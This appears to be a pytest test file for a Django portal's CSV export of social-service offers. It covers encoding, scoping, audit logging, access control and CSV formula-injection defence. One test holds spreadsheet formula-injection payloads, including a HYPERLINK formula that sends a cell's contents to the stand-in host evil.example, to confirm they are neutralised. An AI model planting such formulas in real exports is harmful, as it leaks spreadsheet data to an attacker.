"""CSV export of offers: format, scope, formula injection, audit, query count."""

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from kim_portal.models import AuditEvent
from offers.csv_io import COLUMNS, neutralise_formula
from tests.factories import OrganisationFactory, totp_activate, user_with_role
from tests.offers.csv_support import coordinator, read_csv
from tests.offers.factories import ContactFactory, OfferFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def provider():
    return OrganisationFactory(name="Caritasverband Altena-Lüdenscheid", short_name="Caritas")


@pytest.fixture
def editor(provider):
    return user_with_role("provider_editor", organisation=provider)


def _export(client, user, **params):
    client.force_login(user)
    return client.get(reverse("offers:staff_export"), params)


def test_export_is_utf8_with_bom_semicolons_and_the_stable_header(client, editor, provider):
    OfferFactory(organisation=provider, title="Sprachcafé für Mütter")

    response = _export(client, editor)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    header = response.content.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header == ";".join(f'"{column}"' for column in COLUMNS)
    assert read_csv(response.content)[0]["title"] == "Sprachcafé für Mütter"


@time_machine.travel("2026-11-20 10:00 +01:00")
def test_export_is_an_attachment_with_a_dated_filename(client, editor):
    response = _export(client, editor)

    assert (
        response["Content-Disposition"] == 'attachment; filename="angebote-caritas-2026-11-20.csv"'
    )


def test_export_writes_terms_languages_flags_dates_first_location_and_contact(
    client, editor, provider
):
    offer = OfferFactory(
        organisation=provider,
        categories=["sprache", "beratung"],
        target_groups=["frauen"],
        towns=["Menden (Sauerland)", "Iserlohn"],
        languages=["de", "ar", "uk"],
        min_age=16,
        childcare=True,
        valid_from="2026-01-01",
    )
    ContactFactory(offer=offer, name="Frau Beispiel", email="beispiel@example.org")
    ContactFactory(offer=offer, name="Zweiter Kontakt")

    row = read_csv(_export(client, editor).content)[0]

    assert row["id"] == str(offer.pk)
    assert row["organisation"] == provider.name
    assert row["status"] == "published"
    assert row["categories"] == "beratung|sprache"
    assert row["target_groups"] == "frauen"
    assert row["languages"] == "de|ar|uk"
    assert (row["min_age"], row["max_age"]) == ("16", "")
    assert (row["childcare"], row["barrier_free"]) == ("ja", "nein")
    assert (row["valid_from"], row["valid_until"]) == ("2026-01-01", "")
    assert row["municipality"] == "Menden (Sauerland)"
    assert (row["contact_name"], row["contact_email"]) == ("Frau Beispiel", "beispiel@example.org")


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
        "+49 2351 123456",
        "-2+3",
        "@SUM(1+1)",
        "＝1+1",
    ],
)
def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    client, editor, provider, dangerous
):
    offer = OfferFactory(organisation=provider, title=dangerous, cost_text=dangerous)
    ContactFactory(offer=offer, phone=dangerous[:40])

    row = read_csv(_export(client, editor).content)[0]

    assert row["title"] == "'" + dangerous
    assert row["cost_text"] == "'" + dangerous
    assert row["contact_phone"] == "'" + dangerous[:40]


def test_export_trims_leading_tabs_and_line_breaks_and_neutralises_what_follows(
    client, editor, provider
):
    OfferFactory(organisation=provider, title="\t\r\n=1+1", summary="\tText")

    row = read_csv(_export(client, editor).content)[0]

    assert (row["title"], row["summary"]) == ("'=1+1", "Text")


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t1", "\r1", "＠A1"])
def test_neutralise_formula_prefixes_every_owasp_trigger(cell):
    assert neutralise_formula(cell) == "'" + cell


def test_export_leaves_harmless_cells_as_they_are(client, editor, provider):
    OfferFactory(organisation=provider, title="Deutschkurs A1 – 2026", cost_text="5 € / Monat")

    row = read_csv(_export(client, editor).content)[0]

    assert (row["title"], row["cost_text"]) == ("Deutschkurs A1 – 2026", "5 € / Monat")


def test_editor_exports_only_own_organisations_offers(client, editor, provider):
    own = OfferFactory(organisation=provider)
    OfferFactory(organisation=OrganisationFactory())

    rows = read_csv(_export(client, editor).content)

    assert [row["id"] for row in rows] == [str(own.pk)]


def test_editor_cannot_export_another_organisation_by_parameter(client, editor, provider):
    other = OfferFactory(organisation=OrganisationFactory())

    rows = read_csv(_export(client, editor, organisation=other.organisation_id).content)

    assert str(other.pk) not in [row["id"] for row in rows]


def test_editor_export_includes_drafts_and_archived_offers(client, editor, provider):
    OfferFactory(organisation=provider, status="draft")
    OfferFactory(organisation=provider, status="archived")

    rows = read_csv(_export(client, editor).content)

    assert sorted(row["status"] for row in rows) == ["archived", "draft"]


def test_coordinator_exports_all_providers_or_one(client):
    first, second = OfferFactory(), OfferFactory()
    person = coordinator()

    everything = read_csv(_export(client, person).content)
    one = read_csv(_export(client, person, organisation=second.organisation_id).content)

    assert {row["id"] for row in everything} >= {str(first.pk), str(second.pk)}
    assert [row["id"] for row in one] == [str(second.pk)]


def test_coordinator_export_of_unknown_organisation_is_404(client):
    assert _export(client, coordinator(), organisation="999999").status_code == 404
    assert _export(client, coordinator(), organisation="x").status_code == 404


def test_export_is_recorded_in_the_audit_trail(client, editor, provider):
    OfferFactory.create_batch(2, organisation=provider)

    _export(client, editor)

    event = AuditEvent.objects.get(action="offers.export")
    assert event.actor == editor
    assert event.details == {"organisation_id": provider.pk, "count": 2}


def test_export_is_not_cached(client, editor):
    response = _export(client, editor)

    assert "no-store" in response["Cache-Control"]


def test_anonymous_visitor_is_sent_to_login(client):
    response = client.get(reverse("offers:staff_export"))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("role", ["steering_member", "case_manager", "case_team_lead"])
def test_staff_without_an_offer_role_cannot_export(client, role):
    person = user_with_role(role)
    totp_activate(person)

    assert _export(client, person).status_code == 403


def test_provider_editor_without_organisation_cannot_export(client):
    person = user_with_role("provider_editor", organisation=None)

    assert _export(client, person).status_code == 403


def _queries_for_export(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("offers:staff_export"))
    assert response.status_code == 200
    return len(queries)


def _offer_with_everything(provider):
    offer = OfferFactory(
        organisation=provider,
        categories=["sprache"],
        target_groups=["frauen"],
        towns=["Iserlohn", "Hemer"],
    )
    ContactFactory(offer=offer)
    return offer


def test_export_queries_do_not_grow_with_the_number_of_offers(
    client, editor, provider, django_assert_num_queries
):
    client.force_login(editor)
    _offer_with_everything(provider)
    client.get(reverse("offers:staff_export"))  # warm up: session, content types
    with_one = _queries_for_export(client)
    for _ in range(9):
        _offer_with_everything(provider)

    with django_assert_num_queries(with_one):
        response = client.get(reverse("offers:staff_export"))

    assert len(read_csv(response.content)) == 10
